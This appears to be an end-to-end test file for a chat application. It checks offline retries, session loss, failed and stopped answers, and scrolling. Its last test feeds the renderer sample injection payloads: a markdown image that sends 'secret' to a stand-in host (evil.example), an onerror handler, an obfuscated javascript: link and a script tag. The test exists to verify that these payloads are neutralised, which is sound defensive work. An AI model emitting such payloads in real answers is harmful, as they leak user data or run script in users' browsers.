import { en } from '@savet/i18n/en';
import { goOffline } from '../../tools/test-server/go-offline.ts';
import { expect, test } from '../support/fixtures.ts';
import { LoginPage } from '../support/pages/login.ts';
import { apiOf } from '../support/server/api.ts';

/** Messages that the browser logs for requests which a test makes fail. */
const failedRequest = /ERR_INTERNET_DISCONNECTED|ERR_FAILED/;

test('a question sent offline waits and is sent once when the browser is back online', async ({
  chat,
  page,
  context,
  product,
  problems,
  user: { firstName },
}) => {
  problems.expect(failedRequest);
  await expect(page.getByRole('heading', { level: 1 })).toContainText(firstName);
  await goOffline(page);
  await chat.ask('Who buys bread at night?');
  await expect(chat.questions.last()).toHaveAttribute('data-status', 'unsent', { timeout: 20_000 });
  await chat.composer.fill('And one more thing');
  await context.setOffline(false);
  const answer = await product.provider.next();
  answer.say('Bakers do.');
  answer.finish();
  await chat.settled();
  await expect(chat.questions).toHaveCount(1);
  await expect(chat.questions).toHaveText('Who buys bread at night?');
  await expect(chat.composer).toHaveValue('And one more thing');
});

test('a question whose acknowledgement is lost is answered once', async ({
  chat,
  page,
  product,
  problems,
}) => {
  problems.expect(failedRequest);
  const requestsBefore = product.provider.requestCount;
  await page.route(
    '**/api/generateResponse',
    async (route) => {
      await route.fetch();
      await route.abort();
    },
    { times: 1 },
  );
  await chat.ask('Once, please');
  const answer = await product.provider.next();
  answer.say('Once.');
  answer.finish();
  await chat.settled();
  await page.reload();
  await expect(chat.questions).toHaveText(['Once, please']);
  await expect(chat.replies).toHaveCount(1);
  expect(product.provider.requestCount).toBe(requestsBefore + 1);
});

test('an unsent question survives a reload', async ({ chat, page, product, problems }) => {
  problems.expect(failedRequest);
  await page.route('**/api/generateResponse', (route) => route.abort());
  await chat.ask('Still here?');
  // Being sent, or waiting for the next attempt.
  await expect(chat.questions).toHaveAttribute('data-status', /^(pending|unsent)$/);
  await page.unroute('**/api/generateResponse');
  await page.reload();
  const answer = await product.provider.next();
  answer.say('Still here.');
  answer.finish();
  await chat.settled();
  await expect(chat.questions).toHaveText(['Still here?']);
});

test('typed text survives the end of the session', async ({
  chat,
  page,
  context,
  product,
  problems,
  user: person,
}) => {
  problems.expect(/status of 401 /);
  await chat.composer.fill('Half a thought');
  await context.request.post(`${product.url}/api/auth/sign-out`, {
    headers: { origin: product.url },
    data: {},
  });
  await page.waitForURL('**/login');
  await expect(page.getByRole('alert')).toHaveText(en.errors.byCode.UNAUTHENTICATED);
  await new LoginPage(page).logIn(person);
  await page.waitForURL('**/chat');
  await expect(chat.composer).toHaveValue('Half a thought');
});

test('a failed answer shows its error, returns the query and can be retried', async ({
  chat,
  context,
  product,
}) => {
  await chat.ask('Will it work?');
  (await product.provider.next()).refuse(400);
  await expect(chat.replies.last()).toHaveAttribute('data-status', 'failed');
  await expect(chat.replies.last()).toContainText(en.errors.byReply.GENERATION_FAILED);
  const { read } = await apiOf(context, product);
  expect((await read('getUser')).user.queryUsed).toBe(0);
  await chat.replies.last().getByRole('button', { name: en.chat.retry }).click();
  const again = await product.provider.next();
  again.say('Now it does.');
  again.finish();
  await chat.settled();
  expect(await chat.answer()).toBe('Now it does.');
  expect((await read('getUser')).user.queryUsed).toBe(1);
});

test('a stopped answer keeps the text so far', async ({ chat, page, product }) => {
  await chat.ask('A long story');
  const answer = await product.provider.next();
  answer.say('Once upon a time');
  await expect(chat.replies.last()).toContainText('Once upon a time');
  await page.getByRole('button', { name: en.chat.stop, exact: true }).click();
  await expect(chat.replies.last()).toHaveAttribute('data-status', 'stopped');
  await expect(chat.replies.last()).toContainText(en.chat.stoppedMark);
  await expect(chat.replies.last()).toContainText('Once upon a time');
  await answer.closed;

  // It took a query, so asking again says that it takes another. That answer can be stopped, too.
  await expect(page.getByRole('button', { name: en.chat.retry, exact: true })).toBeHidden();
  await page.getByRole('button', { name: en.chat.anotherAnswer, exact: true }).click();
  const again = await product.provider.next();
  again.say('There was');
  await expect(chat.replies.last()).toContainText('There was');
  await page.getByRole('button', { name: en.chat.stop, exact: true }).click();
  await expect(chat.replies.last()).toHaveAttribute('data-status', 'stopped');
  await again.closed;
});

test('incoming text never moves the text being read', { tag: '@phone' }, async ({
  chat,
  page,
  product,
}) => {
  await chat.ask('Tell me everything');
  const answer = await product.provider.next();
  for (let part = 1; part <= 40; part += 1) answer.say(`## Part ${part}\n\n- one\n- two\n\n`);
  const read = chat.replies.last().getByRole('heading', { name: 'Part 2', exact: true });
  const last = chat.replies.last().getByRole('heading', { name: 'Part 40' });
  await expect(last).toBeInViewport();
  await read.scrollIntoViewIfNeeded();
  const toEnd = page.getByRole('button', { name: en.chat.toBottom });
  await expect(toEnd).toBeVisible();
  const box = await read.boundingBox();
  for (let part = 41; part <= 60; part += 1) answer.say(`## Part ${part}\n\n1. one\n\n2. two\n\n`);
  answer.finish();
  await chat.settled();
  expect(await read.boundingBox()).toEqual(box);
  await toEnd.click();
  await expect(chat.replies.last().getByRole('heading', { name: 'Part 60' })).toBeInViewport();
  await expect(toEnd).toBeHidden();
});

test('an answer contacts no other host and runs no scripts', async ({ chat, product }) => {
  await chat.ask('Show me');
  const answer = await product.provider.next();
  answer.say('![chart](https://evil.example/?d=secret) <img src="https://evil.example/i" ');
  answer.say('onerror="document.title=1">\n\n[click](java\tscript:alert(1)) ');
  answer.say('[page](https://example.org/a)\n\n<script>document.title = "run"</script>');
  answer.finish();
  await chat.settled();
  await expect(chat.replies.last().locator('img, script, iframe')).toHaveCount(0);
  const links = chat.replies.last().locator(':scope > :not(footer)').getByRole('link');
  await expect(links).toHaveText(['chart', 'page']);
  await expect(links.last()).toHaveAttribute('rel', 'noopener noreferrer');
  await expect(links.last()).toHaveAttribute('title', 'example.org');
});
